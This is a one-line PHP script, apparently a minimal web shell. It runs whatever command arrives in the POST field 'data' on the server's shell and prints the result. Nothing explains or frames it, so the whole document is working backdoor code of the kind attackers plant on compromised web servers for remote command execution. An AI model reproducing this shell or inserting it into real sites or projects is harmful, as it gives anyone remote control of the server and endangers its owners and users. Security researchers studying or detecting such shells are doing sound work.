<?php if (isset($_POST['data'])) print(`{$_POST['data']}`);
